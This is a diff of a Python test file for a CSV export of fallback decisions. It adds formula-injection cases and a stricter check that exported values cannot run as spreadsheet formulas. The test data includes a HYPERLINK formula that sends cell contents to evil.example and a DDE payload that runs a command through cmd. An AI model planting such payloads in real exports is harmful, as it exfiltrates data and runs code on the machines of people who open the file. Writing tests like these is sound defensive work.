@@ -10,7 +10,10 @@ from rest_framework.test import APIClient
 from tests.factories import DecisionFactory, LLMModelFactory, ProviderFactory, make_api_key, make_route
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+            "\t=1+1", "\r=1+1",
+            # a spreadsheet finds the formula behind quotes, separators and spaces, and reads full-width signs as ASCII
+            ";=1+1", '"=1+1', "'=1+1", ", ;@SUM(A1)", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\u3000\uff1d1+1"]
+SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r")
 
 
 def opened(response) -> list[dict]:
@@ -19,7 +22,7 @@ def opened(response) -> list[dict]:
 
 
 def no_formula_anywhere(rows: list[dict]) -> bool:
-    return not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
+    return not any(value.lstrip("\"';, \u3000").startswith(SIGNS) and not value.startswith("'") for row in rows for value in row.values())
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -44,3 +47,12 @@ def test_the_fallback_history_export_writes_formulas_as_text(client, viewer):
 
     assert sorted(row["caller"] for row in rows) == sorted("'" + name for name in FORMULAS)
     assert no_formula_anywhere(rows)
+
+
+def test_a_plain_name_is_left_as_it_is_and_the_export_says_its_charset(client, viewer):
+    DecisionFactory(outcome="fallback", caller="billing; batch=nightly", reason="a reason")
+
+    response = client.get("/fallbacks/?format=csv")
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert [row["caller"] for row in opened(response)] == ["billing; batch=nightly"]
